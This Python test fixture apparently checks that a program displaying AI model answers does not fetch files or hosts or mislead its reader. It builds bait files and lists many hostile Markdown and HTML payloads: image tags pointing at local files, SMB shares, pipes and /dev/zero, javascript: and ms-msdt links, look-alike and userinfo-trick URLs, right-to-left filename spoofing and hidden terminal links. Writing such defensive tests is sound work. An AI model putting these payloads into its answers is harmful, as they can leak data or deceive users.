"""A page of attacks: what a model could write to make the program read a file, ask a host, or mislead its reader.

Everything that is named lies below one folder or has `BAIT` in its name, so that any access to it can be told.
"""

from __future__ import annotations

import os
import struct
import zlib
from pathlib import Path

BAIT = "candor-bait"
LOOK_ALIKE = "https://аррӏе.example/login"
LOOK_ALIKE_IN_PUNYCODE = "https://xn--80ak6aa92e.example/login"


def lay_out_bait(folder):
    """Files that the attacks name: a red picture, styles, a drawing, and a pipe that nobody writes to."""
    bait = folder / BAIT
    bait.mkdir()
    (bait / "red.png").write_bytes(_red_png())
    (bait / "style.css").write_text(f"body {{ background: url({bait}/red.png) }}")
    (bait / "drawing.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{bait}/red.png" width="9" height="9"/></svg>'
    )
    os.mkfifo(bait / "pipe")
    return bait


def targets(bait, web):
    """Addresses of every kind; none may be read or asked. `web` is an address on loopback that counts its visitors."""
    relative = os.path.relpath(bait, Path.cwd())
    return [
        f"{web}/{BAIT}.png?words=secret",
        f"https://{BAIT}.example/p.png",
        f"//{BAIT}.example/p.png",
        f"{bait}/red.png",
        f"{relative}/red.png",
        f"file://{bait}/red.png",
        f"file://{BAIT}.example/share/red.png",
        f"//{BAIT}/share/red.png",
        f"\\\\{BAIT}\\share\\red.png",
        f"%5C%5C{BAIT}%5Cshare",
        f"smb://{BAIT}/share/red.png",
        f"{bait}/pipe",
        f"file://{bait}/pipe",
        "/dev/zero",
        "file:///dev/zero",
        f"{bait}/drawing.svg",
        f"qrc:/{BAIT}.png",
        f":/{BAIT}.png",
        f"image://{BAIT}/x",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M/wHwAEBgIApD5fRAAAAABJRU5E",
        f"data:text/html,<img src={bait}/red.png>",
    ]


def html(bait, web):
    """HTML that Qt's text widgets would act on, one piece a line."""
    pieces = [f'<img src="{target}">' for target in targets(bait, web)]
    pieces += [
        f"<style>@import url({bait}/style.css); body {{ background-image: url({bait}/red.png) }}</style>",
        f'<link rel="stylesheet" href="file://{bait}/style.css">',
        f'<body background="{bait}/red.png"><table background="{bait}/red.png"><tr><td>x</td></tr></table>',
        f'<div style="background: url({web}/{BAIT}.png); list-style-image: url({bait}/red.png)">x</div>',
        f'<iframe src="{web}/{BAIT}"></iframe><object data="{bait}/drawing.svg"></object><embed src="{bait}/pipe">',
        f'<svg><image href="{bait}/red.png"/><use href="{web}/{BAIT}#a"/></svg>',
        f'<meta http-equiv="refresh" content="0; url={web}/{BAIT}"><base href="{web}/{BAIT}/">',
        f'<script>fetch("{web}/{BAIT}")</script><a href="javascript:alert(1)" title="<img src={bait}/red.png>">x</a>',
        f'<video poster="{bait}/red.png" src="{web}/{BAIT}"></video><audio src="{bait}/pipe"></audio>',
        f'<input type="image" src="{bait}/red.png"><form action="{web}/{BAIT}"></form>',
    ]
    return "\n\n".join(pieces)


def page(bait, web):
    """All attacks as one answer in Markdown."""
    named = targets(bait, web)
    images = "\n".join(
        f"![picture {number}]({target} \"<img src='{bait}/red.png'>\")" for number, target in enumerate(named)
    )
    references = "\n".join(f"![by reference][{number}] [link by reference][{number}]" for number in range(len(named)))
    definitions = "\n".join(f"[{number}]: <{target}>" for number, target in enumerate(named))
    cells = "\n".join(f"| ![cell]({target}) | [cell]({target}) |" for target in named)
    image_tag = f'<img src="{bait}/red.png">'
    click = f"\x1b]8;;{web}/{BAIT}\x07click\x1b]8;;\x07"  # a link as terminals read it
    return "\n\n".join(
        [
            f"# Heading with ![picture]({bait}/red.png) and {image_tag}",
            LINKS.replace("{bait}", str(bait)).replace("{web}", web),
            images,
            references,
            definitions,
            f"| {image_tag} | link |\n|---|---|\n{cells}",
            html(bait, web),
            f"> quote {image_tag}\n\n- item {image_tag}\n- [ ] ![task]({bait}/pipe)",
            f"```{image_tag.replace(' ', '')}\n{image_tag}\n\u202e txt.exe\u200b\n{click}\n```",
            f"`{image_tag}` **{image_tag}** ~~{image_tag}~~ [^1]\n\n[^1]: {image_tag}",
            f"$$\\href{{{web}/{BAIT}}}{{x}} \\includegraphics{{{bait}/red.png}} \\input{{{bait}/pipe}}$$",
            f"[longer](https://{BAIT}.example/?q={'a' * 3_000})",
        ]
    )


LINKS = f"""\
- [a look-alike]({LOOK_ALIKE}) and [https://your-bank.example](https://{BAIT}.example/login)
- [before the at sign](https://your-bank.example@{BAIT}.example/) and [port](https://your-bank.example:443@{BAIT}.example)
- [script](javascript:alert(1)) [script](java%73cript:alert(1)) [script](vbscript:x) [script](&#106;avascript:alert(1))
- [file](file://{{bait}}/red.png) [path]({{bait}}/red.png) [share](//{BAIT}/share) [share](\\\\{BAIT}\\share) [smb](smb://{BAIT}/x)
- [tool](ms-msdt:/id) [search](search-ms:query=x) [editor](vscode://file{{bait}}/red.png) [call](tel:+123)
- [no host](http:///{BAIT}) [slashes](https:\\\\{BAIT}.example) [number](http://2130706433/) [hex](http://0x7f.1/)
- [zone](http://[fe80::1%25eth0]/) [port](https://example.com:99999/) [encoded](https://exam%70le.com/)
- [letter](mailto:a@example.com?attach={{bait}}/red.png) [copy](mailto:a@example.com?cc=b@{BAIT}.example)
- [\u202egnp.exe](https://{BAIT}.example/a) [zero\u200bwidth](https://exam\u200bple.com/) [\u2066hidden\u2069](https://{BAIT}.example/b)
- <https://{BAIT}.example/c> <file://{{bait}}/red.png> {{web}}/{BAIT}/d file://{{bait}}/red.png
- [long](https://{BAIT}.example/?q={"a" * 1500})
- [title](https://{BAIT}.example/e "<img src='{{bait}}/red.png'>") [line](<https://{BAIT}.example/
f>)"""


def _red_png():
    def chunk(kind, content):
        return (
            struct.pack(">I", len(content))
            + kind
            + content
            + struct.pack(">I", zlib.crc32(kind + content) & 0xFFFFFFFF)
        )

    rows = b"".join(b"\0" + b"\xff\0\0" * 40 for _ in range(40))
    head = struct.pack(">IIBBBBB", 40, 40, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
